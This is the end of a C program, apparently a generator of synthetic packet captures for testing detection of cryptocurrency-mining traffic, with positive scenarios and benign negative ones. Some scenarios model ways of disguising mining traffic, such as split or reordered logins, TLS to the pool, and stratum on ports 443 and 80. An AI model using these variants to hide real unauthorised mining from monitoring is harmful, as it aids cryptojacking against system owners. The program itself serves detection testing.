    {"xmrig-cryptonote", &st_eth, run_xmrig, "XMRig login/jobs/shares/keepalive on 14444, 2 min"},
    {"eth-proxy", &st_eth, run_eth_proxy,
     "eth_submitLogin/getWork/submitHashrate/submitWork on 4444"},
    {"ethstratum", &st_eth, run_ethstratum, "EthereumStratum/1.0.0 (NiceHash) ethminer on 3353"},
    {"getwork-http", &st_eth, run_getwork, "bfgminer getwork over HTTP POST on 8332, one submit"},
    {"dns-then-stratum", &st_eth, run_dns_then_stratum,
     "DNS A for a pool, then XMRig to its address"},
    {"stratum-tls-sni", &st_eth, run_stratum_tls_sni,
     "DNS, TLS to the pool with SNI, then without"},
    {"stratum-split3", &st_eth, run_stratum_split3, "XMRig login in 3 segments, result in 2"},
    {"stratum-ooo", &st_eth, run_stratum_ooo, "XMRig login segments sent 2,1 + retransmit 1"},
    {"stratum-443", &st_eth, run_stratum_443, "plain stratum v1 (bmminer, version rolling) on 443"},
    {"stratum-80", &st_eth, run_stratum_80, "plain CryptoNote (xmr-stak) on port 80"},
    {"eth-node-rpc", &st_eth, run_eth_node_rpc,
     "negative: web3 JSON-RPC over HTTP to geth on 8545"},
    {"electrum", &st_eth, run_electrum, "negative: Electrum wallet to ElectrumX on 50001"},
    {"bitcoind-rpc", &st_eth, run_bitcoind_rpc, "negative: bitcoin-cli RPC to bitcoind on 8332"},
    {"lsp", &st_eth, run_lsp, "negative: Content-Length framed LSP JSON-RPC over TCP"},
    {"ntp", &st_eth, run_ntp, "negative: NTPv4 client/server, server stratum 2"},
};

#define NSCENARIOS (sizeof(scenarios) / sizeof(scenarios[0]))

int main(int argc, char **argv)
{
    const struct scenario *sc = NULL;
    struct gen g;

    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        for (size_t i = 0; i < NSCENARIOS; i++)
            printf("%-18s %s\n", scenarios[i].name, scenarios[i].what);
        return 0;
    }
    if (argc != 3) {
        fprintf(stderr, "usage: pcapgen SCENARIO OUT.pcap | pcapgen --list\n");
        return 2;
    }
    for (size_t i = 0; i < NSCENARIOS; i++)
        if (strcmp(argv[1], scenarios[i].name) == 0)
            sc = &scenarios[i];
    if (!sc) {
        fprintf(stderr, "pcapgen: unknown scenario '%s' (see --list)\n", argv[1]);
        return 2;
    }
    gen_open(&g, argv[2], sc->stack);
    sc->run(&g);
    gen_close(&g);
    fprintf(stderr, "pcapgen: %s: %u packets\n", argv[2], g.npkts);
    return 0;
}
